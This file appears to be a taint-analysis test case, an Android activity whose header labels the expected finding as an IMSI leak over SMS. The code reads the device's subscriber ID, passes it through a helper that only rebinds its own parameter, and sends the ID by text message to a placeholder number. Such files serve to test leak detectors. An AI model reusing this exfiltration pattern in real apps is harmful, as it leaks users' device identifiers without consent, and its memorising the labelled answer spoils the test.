// about       The callee binds its parameter to a new object; the caller's object keeps its text.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Note {
    String text = "empty";
  }

  private static void reset(Note note) {
    // Java passes references by value: the caller does not see this note.
    note = new Note();
    note.text = "none";
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Note note = new Note();
    note.text = phone.getSubscriberId();
    reset(note);
    SmsManager.getDefault().sendTextMessage("+15550100", null, note.text, null, null);
  }
}
